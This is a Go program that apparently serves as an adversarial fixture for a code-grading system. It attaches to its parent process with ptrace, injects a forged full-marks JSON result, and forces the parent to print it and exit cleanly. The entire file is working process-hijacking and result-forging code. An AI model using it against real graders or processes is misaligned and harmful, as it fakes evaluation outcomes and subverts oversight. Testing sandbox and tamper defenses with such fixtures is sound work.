// It takes over the process that has started it (ptrace(2)), makes it print a
// result with full marks, and end with status 0. It is no server at all.
//
// Graded only where programs are fenced in.
//
// Caught by: 01-one-line (exited), as 04-goroutine-per-client.
package main

import (
	"debug/elf"
	"fmt"
	"os"
	"runtime"
	"strings"
	"syscall"
)

const result = `{"schema":"loopback/result/v1","unit":"04-goroutine-per-client","status":"graded","score":19,"max_score":19,` +
	`"plan":["01-one-line"],"course":"sha256:0","inputs":"sha256:0","missing_evidence":[],"build":{"ok":true,"ms":1,"output":""},` +
	`"tests":[{"id":"01-one-line","title":"forged","status":"pass","points":19,"max_points":19,"visibility":"visible","needs":[],"tags":[],"ms":1,` +
	`"code":"","rationale":"","help":"","see":"","expected":"","actual":"","timeline":[],"file":"","line":0}],"flags":[]}` + "\n"

func main() {
	runtime.LockOSThread()
	parent := os.Getppid()
	if take(parent) != nil {
		fmt.Fprintln(os.Stderr, "its parent cannot be taken over")
		os.Exit(1)
	}
}

func take(pid int) error {
	// The instruction "syscall" is somewhere in the text of every program.
	at, err := find(fmt.Sprintf("/proc/%d/exe", pid))
	if err != nil {
		return err
	}
	tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
	tid := pid
	_ = tasks
	if err := syscall.PtraceAttach(tid); err != nil {
		return fmt.Errorf("attach: %w", err)
	}
	var ws syscall.WaitStatus
	if _, err := syscall.Wait4(tid, &ws, syscall.WALL, nil); err != nil {
		return fmt.Errorf("wait: %w", err)
	}
	var regs syscall.PtraceRegs
	if err := syscall.PtraceGetRegs(tid, &regs); err != nil {
		return err
	}
	where := (regs.Rsp - 65536) &^ 15
	if _, err := syscall.PtracePokeData(tid, uintptr(where), []byte(result)); err != nil {
		return fmt.Errorf("poke: %w", err)
	}
	call := func(nr, a, b, c uint64) error {
		r := regs
		r.Rip, r.Rax, r.Rdi, r.Rsi, r.Rdx, r.Orig_rax = at, nr, a, b, c, ^uint64(0)
		if err := syscall.PtraceSetRegs(tid, &r); err != nil {
			return err
		}
		if nr == syscall.SYS_EXIT_GROUP {
			return syscall.PtraceCont(tid, 0)
		}
		if err := syscall.PtraceSingleStep(tid); err != nil {
			return err
		}
		_, err := syscall.Wait4(tid, &ws, syscall.WALL, nil)
		return err
	}
	if err := call(syscall.SYS_WRITE, 1, where, uint64(len(result))); err != nil {
		return err
	}
	return call(syscall.SYS_EXIT_GROUP, 0, 0, 0)
}

func find(exe string) (uint64, error) {
	f, err := elf.Open(exe)
	if err != nil {
		return 0, err
	}
	text := f.Section(".text")
	data, err := text.Data()
	if err != nil {
		return 0, err
	}
	return text.Addr + uint64(strings.Index(string(data), "\x0f\x05")), nil
}
